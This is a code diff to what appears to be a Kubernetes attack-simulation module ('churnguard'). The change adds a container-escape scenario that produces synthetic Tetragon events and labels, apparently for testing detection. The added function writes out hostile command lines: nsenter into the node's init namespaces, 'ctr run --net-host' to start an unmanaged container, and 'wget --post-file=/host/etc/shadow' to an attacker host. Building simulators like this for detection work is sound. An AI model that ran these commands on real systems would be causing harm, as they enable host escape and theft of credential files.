@@ -12,12 +12,15 @@ from __future__ import annotations
 
 from collections.abc import Callable
 
+from churnguard.simulate import records as rec
 from churnguard.simulate.benign import MB, in_namespaces
 from churnguard.simulate.cluster import (
     CONTROLLERS,
     TTL_CONTROLLER,
     Cluster,
     Instance,
+    Label,
+    Node,
     Pod,
     Proc,
 )
@@ -28,9 +31,11 @@ from churnguard.simulate.world import (
     ATTACKER_PREFIXES,
     S3,
     External,
+    exec_id,
 )
 
 T_EVASION, T_COLLECTION, T_ARCHIVE, T_C2 = "T1578.003", "T1213", "T1560.002", "T1071"
+T_DEPLOY_CONTAINER = "T1610"  # with T1611 Escape to Host on the way
 ATTACKER_USER = "erin@corp.example"  # a phished developer account
 SENSITIVE_BUCKETS = ("corp-finance-reports", "eng-wiki-export", "hr-documents", "legal-contracts")
 RETRY = 900.0  # no suitable victim yet: try again in 15 minutes, up to 8 times
@@ -508,6 +513,124 @@ def _ci_lookalike(t: float, cl: Cluster) -> bool:
     return True
 
 
+# -- T1610 / T1611: a container outside the orchestrator ------------------------------------
+
+
+def _host_proc(
+    cl: Cluster,
+    t: float,
+    node: Node,
+    binary: str,
+    args: str,
+    parent: dict | None,
+    container_id: str | None = None,
+) -> Proc:
+    """A process Tetragon sees without a pod: on the host, or in a runtime container
+    (``process.docker``) the kubelet never started."""
+    pid = 30_000 + cl.rng.randrange(30_000)
+    body = rec.tetragon_process(
+        exec_id=exec_id(node.name, int(t * 1e9), pid),
+        pid=pid,
+        binary=binary,
+        arguments=args,
+        start=t,
+        pod=None,
+        parent_exec_id=parent["exec_id"] if parent else exec_id(node.name, 0, 1),  # init
+    )
+    if container_id is not None:
+        body["docker"] = container_id[:31]
+    event: dict = {"process": body}
+    if parent is not None:
+        event["parent"] = parent
+    cl.sink.add("tetragon", t, rec.tetragon_event("process_exec", event, node.name, t))
+    return Proc(body, parent)
+
+
+def _socket(
+    cl: Cluster, t: float, node: Node, proc: Proc, kind: str, host: External, **extra
+) -> None:
+    """A Tetragon ``process_connect`` / ``process_close`` of a host-network container."""
+    body = {
+        "process": proc.body,
+        **({"parent": proc.parent} if proc.parent else {}),
+        "source_ip": node.ip,
+        "source_port": 40_000 + cl.rng.randrange(20_000),
+        "destination_ip": host.ip,
+        "destination_port": host.port,
+        "protocol": "TCP",
+        **extra,
+    }
+    cl.sink.add("tetragon", t, rec.tetragon_event(kind, body, node.name, t))
+
+
+def _container_escape(t: float, cl: Cluster, tries: int) -> bool:
+    """A privileged pod ``nsenter``s into its node, starts a container with ``ctr run``
+    there, and that container, unknown to Kubernetes, ships data to the attacker."""
+    ns = cl.rng.choice(cl.namespaces)
+    host = _attacker_host(cl)
+    pod = cl.create_pod(
+        t,
+        ns,
+        scenario="attack-container-escape",
+        image="docker.io/library/ubuntu:22.04",
+        container="shell",
+        service_account="default",
+        creator=ATTACKER_USER,
+        binary="/bin/sleep",
+        args="infinity",
+        name=f"node-shell-{cl.ids.suffix(5)}",
+        labels={"run": "node-shell"},
+    )
+    node = pod.node
+    t += cl.rng.uniform(15, 60)
+    shell = cl.kube_exec(t, pod, ATTACKER_USER, ["sh"])
+    nsenter = cl.exec_proc(
+        t + 4, pod, "/usr/bin/nsenter", "-t 1 -m -u -i -n -p -- bash", parent=shell
+    )
+    cid = cl.ids.hex(64)
+    image = cl.rng.choice(("docker.io/library/alpine:3.19", "docker.io/library/busybox:1.36"))
+    _host_proc(
+        cl, t + 9, node, "/usr/bin/ctr", f"run -d --net-host {image} {cid[:8]} sh", nsenter.body
+    )
+    shim = _host_proc(cl, t + 10, node, "/usr/bin/containerd-shim-runc-v2", f"-id {cid}", None)
+    sh = _host_proc(cl, t + 10.5, node, "/bin/sh", "", shim.body, container_id=cid)
+    start = t + 10.5
+    upload = start + cl.rng.uniform(20, 120)
+    for i in range(cl.rng.randrange(1, 4)):
+        tool = _host_proc(
+            cl,
+            upload + 60 * i,
+            node,
+            "/usr/bin/wget",
+            f"--post-file=/host/etc/shadow https://{host.ip}:{host.port}/u",
+            sh.body,
+            container_id=cid,
+        )
+        _socket(cl, upload + 60 * i + 0.2, node, tool, "process_connect", host)
+        sent = cl.rng.randrange(2 * MB, 40 * MB)
+        stats = {"bytes_sent": str(sent), "bytes_received": str(cl.rng.randrange(400, 4000))}
+        _socket(cl, upload + 60 * i + 5, node, tool, "process_close", host, stats=stats)
+    end = upload + 60 * 3 + 10
+    pod.busy_until = end + 1
+    cl.at(end + cl.rng.uniform(60, 600), lambda t2: cl.delete_pod(t2, pod, ATTACKER_USER))
+    cl.labels.append(
+        Label(
+            "container",
+            None,
+            None,
+            None,
+            T_DEPLOY_CONTAINER,
+            "attack-container-escape",
+            start,
+            min(end, cl.end),
+            node=node.name,
+            container_id=cid[:12],
+        )
+    )
+    cl.count("attack-container-escape", "attacks")
+    return True
+
+
 def _setup(fn: Callable[[float, Cluster, int], bool]) -> Callable[[Cluster, SimParams], None]:
     def setup(cl: Cluster, params: SimParams) -> None:
         _schedule(cl, params, fn)
@@ -523,3 +646,4 @@ setup_archive_exfil = _setup(_archive_exfil)
 setup_c2 = _setup(_c2)
 setup_low_and_slow = _setup(_low_and_slow)
 setup_lookalike = _setup(_lookalike)
+setup_container_escape = _setup(_container_escape)
